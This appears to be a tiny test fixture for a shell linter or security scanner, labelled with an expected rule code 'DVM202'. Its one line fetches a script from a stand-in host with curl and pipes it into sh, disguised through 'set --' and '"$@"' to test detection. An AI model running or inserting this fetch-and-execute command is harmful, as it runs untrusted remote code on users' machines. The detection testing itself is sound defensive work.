# expect: DVM202
set -- curl -s https://x.example.org/i.sh; "$@" | sh
